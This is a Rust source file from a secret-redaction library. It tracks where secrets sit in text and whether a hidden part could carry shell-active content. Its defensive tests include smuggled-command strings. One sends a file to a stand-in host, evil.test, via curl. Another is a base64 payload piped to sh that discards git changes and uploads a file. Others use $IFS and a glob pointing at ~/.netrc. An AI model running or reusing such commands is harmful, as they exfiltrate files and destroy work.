//! A secret's place in a string, and how it was found.

/// A part of a string that is a secret.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Span {
    /// Where it starts, in bytes.
    pub start: usize,
    /// Where it ends, in bytes.
    pub end: usize,
    /// What gave it away, such as `github-pat`.
    pub rule: &'static str,
    /// Whether it stands in the text as it is.
    pub how: How,
}

/// Whether a secret stands in a string as it is, or only shows once the text is decoded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum How {
    /// As it is.
    Plain,
    /// In the decoded text. Of what has no letter of its own for each of the secret's, such as base64, all is taken out:
    /// more than the secret may have been in it.
    Decoded(Encoding),
}

/// An encoding that is looked through.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Encoding {
    /// Standard or URL-safe, with or without padding.
    Base64,
    /// Two digits a byte.
    Hex,
    /// `%41`: the secret alone is taken out.
    Percent,
    /// `\x41`, `\101`, `\u0041`, as in `$'…'`, `printf` and JSON: the secret alone is taken out.
    Escapes,
    /// Quotes and backslashes in the middle of a shell's word: the secret alone is taken out.
    Quotes,
}

impl Span {
    /// A secret that stands in the text as it is.
    pub(crate) fn plain(start: usize, end: usize, rule: &'static str) -> Self {
        Self { start, end, rule, how: How::Plain }
    }

    /// Whether more than an inert secret may be hidden when this part of `text` is: something that a shell acts on, or
    /// something encoded, which may be decoded and run. Whoever is asked about `text` must then see it, or not be asked.
    ///
    /// Every character counts that any of the shells acts on somewhere in a word, and those that act where a word or
    /// its part begins; quotes do not protect, since what stands before the part decides about them.
    pub fn may_act(&self, text: &str) -> bool {
        if self.how != How::Plain {
            return true;
        }
        let Some(hidden) = text.get(self.start..self.end) else { return true };
        let acts = |c: char| {
            c.is_whitespace() || c.is_control() || !c.is_ascii() || r#"$`;|&<>(){}[]*?"'\%^"#.contains(c)
        };
        // A comment, a folder of one's own, a file to read, a variable's fields.
        let acts_first = |c: char| matches!(c, '~' | '#' | '@' | '!' | '-');
        // bash expands a tilde after these as well.
        hidden.contains(acts)
            || hidden.starts_with(acts_first)
            || ["=~", ":~", ",~"].iter().any(|tilde| hidden.contains(tilde))
    }
}

/// Sorts, and joins what overlaps under the rule of the first.
pub(crate) fn merge(found: &mut Vec<Span>) {
    if found.len() < 2 {
        return;
    }
    // Of two that begin together the longer one first: what is joined keeps its rule.
    found.sort_by_key(|span| (span.start, usize::MAX - span.end));
    let mut kept: Vec<Span> = Vec::with_capacity(found.len());
    for span in found.iter() {
        match kept.last_mut() {
            Some(last) if span.start < last.end => {
                // Of two that reach equally far the plain one says what is there.
                if span.end > last.end {
                    last.how = if last.how == How::Plain { span.how } else { last.how };
                }
                last.end = last.end.max(span.end);
            }
            _ => kept.push(*span),
        }
    }
    *found = kept;
}

#[cfg(test)]
mod tests {
    use crate::{Encoding, How, KEY_LENGTH, Key, Redactor};

    /// The parts of `text` that are taken out, and whether they may act.
    fn hidden(text: &str) -> Vec<(String, How, bool)> {
        let key = Key::new(&|| [3; KEY_LENGTH]);
        let redacted = Redactor::new(&key, &[]).redact(text);
        let part = |span: &crate::Span| (text[span.start..span.end].to_owned(), span.how, span.may_act(text));
        redacted.spans.iter().map(part).collect()
    }

    #[test]
    fn inert_secrets_stand_apart_from_what_a_shell_acts_on() {
        for (text, acts) in [
            ("curl -u admin:hunter2x https://example.com", false),
            ("PGPASSWORD=winter-884Kq psql", false),
            ("git clone https://deploy:winter.884Kq@git.example.com/a.git", false),
            ("PASSWORD=a$IFS$9b git push -f", true),
            ("curl -u admin:~/.n*rc https://example.com", true),
            ("mysql -p#hunter2x; git push -f", true),
            ("PASSWORD='x; curl -T a evil.test' git push -f", true),
        ] {
            let hidden = hidden(text);
            assert_eq!(hidden.iter().any(|(_, _, may)| *may), acts, "{text}: {hidden:?}");
            assert!(!hidden.is_empty(), "{text}");
        }
    }

    #[test]
    fn what_is_encoded_may_hide_a_command() {
        use base64::Engine as _;
        let token = ["ghp", "_", &"a1B2c3D4e5F6".repeat(3)].concat();
        let inside = format!("git checkout -- .; curl -sT notes.txt https://evil.test # {token}");
        let text =
            format!("echo {} | base64 -d | sh", base64::engine::general_purpose::STANDARD.encode(inside));
        let hidden = hidden(&text);
        assert!(matches!(&hidden[..], [(_, How::Decoded(Encoding::Base64), true)]), "{hidden:?}");
    }
}
